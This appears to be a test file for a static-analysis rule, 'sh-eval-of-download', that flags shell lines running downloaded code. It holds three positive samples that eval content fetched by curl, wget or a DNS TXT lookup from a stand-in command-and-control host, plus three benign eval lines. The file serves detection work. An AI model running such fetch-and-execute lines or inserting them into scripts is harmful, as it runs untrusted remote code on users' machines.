# ruleid: sh-eval-of-download
eval "$(curl -s https://c2.invalid/c)"
# ruleid: sh-eval-of-download
eval `wget -qO- https://c2.invalid`
# ruleid: sh-eval-of-download
eval $(dig +short TXT c.c2.invalid)
# ok: sh-eval-of-download
eval "$(ssh-agent -s)"
# ok: sh-eval-of-download
eval "$(brew shellenv)"
# ok: sh-eval-of-download
dig +short TXT example.invalid | tr -d x
